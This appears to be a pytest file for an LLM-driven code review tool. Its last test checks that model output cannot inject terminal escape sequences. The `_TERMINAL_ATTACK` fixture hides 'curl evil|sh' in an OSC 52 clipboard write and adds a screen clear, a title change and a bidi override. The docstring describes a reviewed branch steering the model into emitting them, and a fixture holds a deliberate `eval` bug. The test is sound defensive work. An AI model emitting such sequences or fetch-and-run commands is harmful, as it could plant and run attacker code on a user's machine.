"""``auto-review review local`` and ``review once --dry-run``, in-process, against the fakes."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from tests.e2e._harness import finding, line_of, review_answer
from tests.fakes.forge import FakeForge
from tests.fakes.llm import ScriptedModel, ScriptedModelServer, reply
from tests.unit.review._git import git, make_repo
from typer.testing import CliRunner

from auto_review.cli.main import app

BASE = "def load(conn, key):\n    return conn.get(key)\n"
HEAD = "def load(conn, key):\n    return eval(conn.get(key))\n"
BUG = "return eval(conn.get(key))"


def _env(server: ScriptedModelServer, tmp_path: Path, **extra: str) -> dict[str, str]:
    return {
        "LLM_BASE_URL": server.base_url,
        "LLM_API_KEY": "sk-scripted-test-key-0123456789abcdef",
        "LLM_REASONING_MODEL": "scripted-reasoning",
        "AR_STATE_DIR": str(tmp_path / "state"),
        "AR_LOG_LEVEL": "error",
        **extra,
    }


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    root = make_repo(tmp_path / "work", {"app/store.py": BASE})
    git(root, "checkout", "-q", "-b", "feature")
    (root / "app" / "store.py").write_text(HEAD)
    git(root, "commit", "-q", "-am", "use eval")
    return root


def test_review_local_prints_findings_and_exits_1_on_errors(
    checkout: Path,
    scripted_model: ScriptedModel,
    scripted_model_server: ScriptedModelServer,
    tmp_path: Path,
) -> None:
    line = line_of(HEAD, BUG)
    answer = review_answer(finding("app/store.py", line, BUG, message="eval of stored data"))
    scripted_model.respond_with(lambda _r: reply(json.dumps(answer)))
    env = _env(scripted_model_server, tmp_path)
    result = CliRunner().invoke(app, ["review", "local", "--repo", str(checkout)], env=env)
    assert result.exit_code == 1, result.output
    assert f"app/store.py:{line}: error [bug] eval of stored data" in result.stdout
    sarif = CliRunner().invoke(
        app, ["review", "local", "--repo", str(checkout), "--format", "sarif"], env=env
    )
    doc = json.loads(sarif.stdout)
    [res] = doc["runs"][0]["results"]
    assert res["level"] == "error"
    assert res["locations"][0]["physicalLocation"]["region"]["startLine"] == line


def test_review_local_exits_0_when_clean(
    checkout: Path,
    scripted_model: ScriptedModel,
    scripted_model_server: ScriptedModelServer,
    tmp_path: Path,
) -> None:
    scripted_model.respond_with(lambda _r: reply(json.dumps(review_answer())))
    result = CliRunner().invoke(
        app,
        ["review", "local", "--repo", str(checkout), "--format", "json", "--base", "main"],
        env=_env(scripted_model_server, tmp_path),
    )
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["findings"] == []


def test_review_once_dry_run_prints_review_and_posts_nothing(
    fake_forge: FakeForge,
    scripted_model: ScriptedModel,
    scripted_model_server: ScriptedModelServer,
    tmp_path: Path,
) -> None:
    fake_forge.create_repo("alice/kv", {"app/store.py": BASE})
    fake_forge.push("alice/kv", "f", {"app/store.py": HEAD})
    number = fake_forge.open_pull("alice/kv", head="f", title="eval", author="alice").number
    line = line_of(HEAD, BUG)
    answer = review_answer(finding("app/store.py", line, BUG, message="eval of stored data"))
    scripted_model.respond_with(lambda _r: reply(json.dumps(answer)))
    env = _env(
        scripted_model_server,
        tmp_path,
        FORGEJO_BASE_URL=fake_forge.url,
        AR_FORGEJO_TOKEN=fake_forge.bot_token,
    )
    result = CliRunner().invoke(
        app, ["review", "once", f"alice/kv#{number}", "--dry-run", "--json"], env=env
    )
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["event"] == "REQUEST_CHANGES"
    assert data["comments"][0]["line"] == line
    repo = fake_forge.repo("alice/kv")
    assert repo.reviews == []
    assert repo.statuses == []


# An OSC 52 clipboard write, a screen clear, a title change, a C1 CSI and a bidi override.
_TERMINAL_ATTACK = "ok\x1b]52;c;Y3VybCBldmlsfHNo\x07 \x1b[2J\x1b]0;pwned\x1b\\ \x9b31m \u202edcba"
_CONTROL = {chr(c) for c in [*range(0x00, 0x20), *range(0x7F, 0xA0)]} - {"\n", "\t"}


def _assert_no_terminal_controls(text: str) -> None:
    assert not _CONTROL & set(text), repr(text)
    assert "\u202e" not in text


def test_review_output_cannot_drive_the_terminal(
    checkout: Path,
    fake_forge: FakeForge,
    scripted_model: ScriptedModel,
    scripted_model_server: ScriptedModelServer,
    tmp_path: Path,
) -> None:
    """Attack: a branch under review (a contributor's, checked out by a maintainer) steers the
    model into findings and a summary with terminal escape sequences: a clipboard write (OSC
    52), a screen clear, a title change, a C1 control and a right-to-left override.

    Control: ``review local`` and ``review once --dry-run`` print untrusted text with every
    control character shown as an escape; JSON and SARIF are escaped by the encoder.
    """
    line = line_of(HEAD, BUG)
    answer = review_answer(
        finding("app/store.py", line, BUG, message=_TERMINAL_ATTACK), summary=_TERMINAL_ATTACK
    )
    scripted_model.respond_with(lambda _r: reply(json.dumps(answer)))
    env = _env(scripted_model_server, tmp_path)
    local = CliRunner().invoke(app, ["review", "local", "--repo", str(checkout)], env=env)
    assert local.exit_code == 1, local.output
    assert "\\x1b]52;c;" in local.stdout  # shown, not sent to the terminal
    _assert_no_terminal_controls(local.stdout)
    fake_forge.create_repo("alice/kv", {"app/store.py": BASE})
    fake_forge.push("alice/kv", "f", {"app/store.py": HEAD})
    number = fake_forge.open_pull("alice/kv", head="f", title="eval", author="alice").number
    env = {**env, "FORGEJO_BASE_URL": fake_forge.url, "AR_FORGEJO_TOKEN": fake_forge.bot_token}
    once = CliRunner().invoke(app, ["review", "once", f"alice/kv#{number}", "--dry-run"], env=env)
    assert once.exit_code == 0, once.output
    assert "\\x1b[2J" in once.stdout
    _assert_no_terminal_controls(once.stdout)
